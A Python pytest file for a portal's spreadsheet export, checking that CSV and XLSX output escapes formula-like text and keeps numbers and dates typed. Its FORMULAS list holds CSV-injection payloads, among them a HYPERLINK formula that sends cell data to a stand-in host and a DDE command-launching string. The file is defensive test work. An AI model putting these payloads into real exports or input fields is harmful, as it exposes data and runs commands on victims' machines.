"""portal.spreadsheets: no text becomes a formula in any CSV or XLSX; the portal's numbers stay numbers."""

from __future__ import annotations

import csv
import io
from datetime import date
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from portal import spreadsheets

FORMULAS = [
    '=HYPERLINK("http://example.invalid/?"&A1,"klik")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\uff1d1+1",  # full-width equals sign
]
HARMLESS = ["Zorggroep Noorderzon B.V.", "R1", "1+1", "a=b", "e-mail@example.org", ""]


@pytest.mark.parametrize("value", FORMULAS)
def test_a_text_a_spreadsheet_would_evaluate_gets_a_quote_in_front(value):
    assert spreadsheets.neutralise(value) == "'" + value


@pytest.mark.parametrize("value", HARMLESS)
def test_other_text_is_left_as_it_is(value):
    assert spreadsheets.neutralise(value) == value


def _read_xlsx(data: bytes) -> list[list[object]]:
    sheet = load_workbook(io.BytesIO(data)).active
    return [[c.value for c in row] for row in sheet.iter_rows()]


def test_xlsx_text_is_never_a_formula_and_numbers_and_dates_stay_typed():
    rows = [[value, Decimal("-12.50"), 7, date(2027, 1, 1)] for value in [*FORMULAS, "ctrl\x01\x0b=x"]]
    data = spreadsheets.to_xlsx("Blad", ["=kop", "bedrag", "niveau", "datum"], rows)
    sheet = load_workbook(io.BytesIO(data)).active
    cells = [c for row in sheet.iter_rows() for c in row]
    assert all(c.data_type != "f" for c in cells)
    read = _read_xlsx(data)
    assert read[0][0] == "'=kop"
    assert [row[0] for row in read[1 : len(FORMULAS) + 1]] == ["'" + v for v in FORMULAS]
    assert read[-1][0] == "ctrl  =x"  # control characters an XLSX cannot hold are spaces
    for row in read[1:]:
        assert row[1] == -12.5  # a number the portal produced, negative or not, stays a number
        assert row[2] == 7
        assert row[3].date() == date(2027, 1, 1)


def test_csv_text_is_quoted_and_the_portals_own_numbers_are_written_by_fmt():
    rows = [[value, Decimal("-12.50")] for value in FORMULAS]
    data = spreadsheets.to_csv(["naam", "@bedrag"], rows, fmt=lambda v: f"{v:.2f}".replace(".", ","))
    assert data.startswith(b"\xef\xbb\xbf")
    read = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""), delimiter=";"))
    assert read[0] == ["naam", "'@bedrag"]
    assert [row[0] for row in read[1:]] == ["'" + v for v in FORMULAS]
    assert {row[1] for row in read[1:]} == {"-12,50"}
